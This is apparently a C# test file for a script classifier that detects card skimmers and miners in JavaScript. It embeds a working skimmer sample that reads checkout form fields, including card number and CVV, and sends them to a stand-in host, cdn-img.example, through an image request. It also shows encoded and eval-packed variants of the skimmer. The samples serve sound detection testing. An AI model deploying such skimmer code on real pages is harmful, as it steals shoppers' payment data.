using System.Text;
using Shouldly;
using Weir.Numerics;
using Weir.Scripts;
using Weir.Scripts.Corpus;
using Xunit;

namespace Weir.Tests.Scripts;

/// <summary>The model that ships, on hand-written and generated scripts. All are inert text.</summary>
public sealed class ScriptClassifierTests
{
    private const string Skimmer = """
        (function () {
            var seen = "";
            function take() {
                if (!/checkout|onepage/.test(location.href)) return;
                var fields = document.querySelectorAll("input, select"), data = {};
                for (var i = 0; i < fields.length; i++) data[fields[i].name || fields[i].id] = fields[i].value;
                if (!data.cc_number || data.cc_number === seen) return;
                seen = data.cc_number;
                new Image().src = "https://cdn-img.example/p.php?d=" + encodeURIComponent(btoa(JSON.stringify(data)));
            }
            document.querySelector("#cc_number").addEventListener("change", take);
        })();
        """;

    private const string Checkout = """
        import { formatTotal } from "./money.js";
        const form = document.querySelector("#checkout-form");
        form.addEventListener("submit", async (event) => {
            event.preventDefault();
            const button = form.querySelector("button");
            button.disabled = true;
            const answer = await fetch("/api/orders", { method: "POST", body: new FormData(form), headers: { "X-Requested-With": "fetch" } });
            const order = await answer.json();
            document.querySelector("#total").textContent = formatTotal(order.total);
            window.location.assign("/orders/" + order.id);
        });
        """;

    private static readonly Lazy<ScriptClassifier> s_classifier = new(() => ScriptClassifier.Load(Path.Combine(House.Repository.Root, "models", "script-1.weir")));

    [Fact]
    public void Score_SkimmerThatSendsToAPath_NamesThePath() =>
        Score(Skimmer.Replace("https://cdn-img.example", "", StringComparison.Ordinal).Replace("//cdn-img.example", "", StringComparison.Ordinal)).Evidence[0].Sentence.ShouldContain(" of the same site by ");

    [Fact]
    public void Score_Skimmer_IsFoundWithWhatItReadsAndWhereItSends()
    {
        ScriptVerdict verdict = Score(Skimmer);

        ((int)verdict.Severity).ShouldBeGreaterThanOrEqualTo((int)Severity.Medium);
        verdict.Class.ShouldBe(ScriptClass.Skimmer);
        verdict.Evidence[0].Sentence.ShouldContain("cc_number");
        verdict.Evidence[0].Sentence.ShouldContain("cdn-img.example by an image request");
        verdict.Evidence[0].Line.ShouldBeInRange(5, 9);
        verdict.Evidence.ShouldAllBe(evidence => evidence.Fragment.Length <= 160 && evidence.Line >= 1 && evidence.Column >= 1);
        verdict.Obfuscation.ShouldBeLessThan(0.2);
        verdict.IsUndecided.ShouldBeFalse();
    }

    /// <summary>Words of harmless scripts, before it and in its middle, are no way to hide it.</summary>
    [Fact]
    public void Score_SkimmerAmongHarmlessText_IsFoundAllTheSame()
    {
        string harmless = string.Join('\n', ScriptCorpus.Generate(ScriptLabel.Benign, seed: 5, count: 30).Select(sample => sample.Code));
        string[] words = [.. harmless.Split([.. harmless.Where(sign => !char.IsAsciiLetterLower(sign)).Distinct()], StringSplitOptions.RemoveEmptyEntries).Where(word => word.Length is >= 4 and <= 12).Distinct().Take(400)];
        words.Length.ShouldBe(400);
        int middle = Skimmer.IndexOf("seen = data", StringComparison.Ordinal);

        ((int)Score($"var text = [\"{string.Join("\", \"", words)}\"];\n{Skimmer}").Severity).ShouldBeGreaterThanOrEqualTo((int)Severity.Medium);
        ((int)Score($"{Skimmer[..middle]}\nvar text = [\"{string.Join("\", \"", words.Take(100))}\"];\n{Skimmer[middle..]}").Severity).ShouldBeGreaterThanOrEqualTo((int)Severity.Low);
    }

    /// <summary>A few harmless functions around a short skimmer: what it reads and sends is judged by itself.</summary>
    [Fact]
    public void Score_ShortSkimmerBetweenHarmlessFunctions_IsFoundByItsFlow()
    {
        const string Short = "document.querySelector(\"#pay\").addEventListener(\"click\", function () { var n = document.getElementById(\"cc_number\").value, c = document.getElementById(\"cvv\").value; new Image().src = \"https://cdn-img.example/p.gif?d=\" + btoa(n + c); });\n";
        const string Cart = "function add(cart, item) { var found = cart.items.find(function (one) { return one.sku === item.sku; }); if (found) found.count += 1; else cart.items.push(item); cart.total = cart.items.reduce(function (sum, one) { return sum + one.price * one.count; }, 0); return cart; }\nfunction show(box, cart) { box.textContent = cart.total.toFixed(2); box.classList.toggle(\"empty\", cart.items.length === 0); }\n";
        ScriptVerdict verdict = Score(Cart + Short + Cart);

        Score(Cart + Cart).Severity.ShouldBe(Severity.None);
        verdict.Class.ShouldBe(ScriptClass.Skimmer);
        ((int)verdict.Severity).ShouldBeGreaterThanOrEqualTo((int)Severity.Medium);
        verdict.Evidence[0].Sentence.ShouldBe("Reads cc_number, cvv on click, makes text of it (btoa) and sends to cdn-img.example by an image request.");
    }

    [Fact]
    public void Score_CheckoutOfAShop_IsHarmless()
    {
        ScriptVerdict verdict = Score(Checkout);

        verdict.Severity.ShouldBe(Severity.None);
        verdict.Evidence.ShouldBeEmpty();
    }

    [Fact]
    public void Score_PageWithTheSkimmer_SaysTheLineOfThePage()
    {
        ScriptVerdict verdict = Score($"<!doctype html>\n<html><head><title>Pay</title>\n<script type=\"application/json\">{{\"a\":1}}</script>\n</head><body><script>\n{Skimmer}\n</script></body></html>");

        verdict.Class.ShouldBe(ScriptClass.Skimmer);
        ((int)verdict.Severity).ShouldBeGreaterThanOrEqualTo((int)Severity.Medium);
        verdict.Evidence[0].Line.ShouldBeInRange(9, 14);
    }

    [Fact]
    public void Score_SkimmerInALongScript_IsFoundInItsWindow()
    {
        string host = string.Join('\n', Enumerable.Range(0, 1500).Select(i => $"lib.define('part{i}', function (a, b) {{ var size = a.length + {i}; return size > b ? a.slice(0, b) : a.concat('{i}'); }});"));
        ScriptVerdict plain = Score(host);
        ScriptVerdict spliced = Score(host.Insert(host.IndexOf("lib.define('part700'", StringComparison.Ordinal), Skimmer + "\n"));

        plain.Severity.ShouldBe(Severity.None);
        spliced.Class.ShouldBe(ScriptClass.Skimmer);
        ((int)spliced.Severity).ShouldBeGreaterThanOrEqualTo((int)Severity.Low);
        spliced.Evidence[0].Line.ShouldBeInRange(690, 730);
    }

    [Fact]
    public void Score_HiddenWords_AreSaidToBeHidden()
    {
        string hidden = Skimmer.Replace("\"#cc_number\"", "atob(\"I2NjX251bWJlcg==\")", StringComparison.Ordinal);
        Score(hidden).Class.ShouldBe(ScriptClass.Skimmer);
        ScriptVerdict packed = Score("eval(unescape('" + string.Concat(Skimmer.Select(sign => $"%{(int)sign:x2}")) + "'))");
        packed.Class.ShouldBe(ScriptClass.Skimmer);
        packed.Evidence.ShouldContain(evidence => evidence.Sentence.EndsWith(", which the script hides", StringComparison.Ordinal));
        packed.Obfuscation.ShouldBeGreaterThan(Score(Skimmer).Obfuscation);
    }

    [Fact]
    public void Score_SignsAlone_IsNotDecided()
    {
        ScriptVerdict verdict = Score(string.Concat(Enumerable.Repeat("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]", 60)));

        verdict.IsUndecided.ShouldBeTrue();
        verdict.Severity.ShouldBe(Severity.None);
        verdict.Score.ShouldBe(0);
    }

    [Theory]
    [InlineData("")]
    [InlineData("   \n\n")]
    [InlineData("\u0000\u0001")]
    [InlineData("<")]
    [InlineData("<script>")]
    [InlineData("<!-- ")]
    [InlineData("{\"a\":[1,2,3]}")]
    public void Score_NothingMuch_IsHarmless(string code)
    {
        ScriptVerdict verdict = Score(code);

        verdict.Severity.ShouldBe(Severity.None);
        verdict.Classes.Count.ShouldBe(3);
        verdict.Classes.ShouldAllBe(score => score >= 0 && score <= 1);
    }

    [Fact]
    public void Score_AnyBytes_NeverThrows()
    {
        var random = new SeededRandom(11);
        byte[][] seeds = [.. ScriptCorpus.Generate(3, 40).Select(sample => Encoding.UTF8.GetBytes(sample.Code)), Encoding.UTF8.GetBytes(Skimmer)];
        for (int i = 0; i < 2000; i++)
        {
            byte[] bytes = [.. random.Pick<byte[]>(seeds)];
            for (int changes = 1 + random.Next(20); changes > 0 && bytes.Length > 1; changes--)
            {
                bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            }

            ScriptVerdict verdict = s_classifier.Value.Score(bytes.AsSpan(random.Next(bytes.Length)));
            double.IsFinite(verdict.Score).ShouldBeTrue();
        }
    }

    [Fact]
    public void Score_OnManyThreads_GivesTheSameBits()
    {
        byte[][] codes = [.. ScriptCorpus.Generate(5, 200).Select(sample => Encoding.UTF8.GetBytes(sample.Code))];
        double[] one = [.. codes.Select(code => s_classifier.Value.Score(code).Score)];
        var many = new double[codes.Length];
        Parallel.For(0, codes.Length, i => many[i] = s_classifier.Value.Score(codes[i]).Score);
        many.ShouldBe(one);
    }

    [Fact]
    public void Score_GeneratedScriptsOfAnotherSeed_AreToldApart()
    {
        int Flagged(ScriptLabel label, int count) => ScriptCorpus.Generate(label, 987, count).Count(sample => Score(sample.Code).Severity >= Severity.Medium);

        Flagged(ScriptLabel.Skimmer, 200).ShouldBeGreaterThan(160);
        Flagged(ScriptLabel.Miner, 200).ShouldBeGreaterThan(90);

        // Twins of skimmers, written to look like them: far harder than what pages load.
        Flagged(ScriptLabel.Benign, 400).ShouldBeLessThan(60);
    }

    private static ScriptVerdict Score(string code) => s_classifier.Value.Score(Encoding.UTF8.GetBytes(code));
}
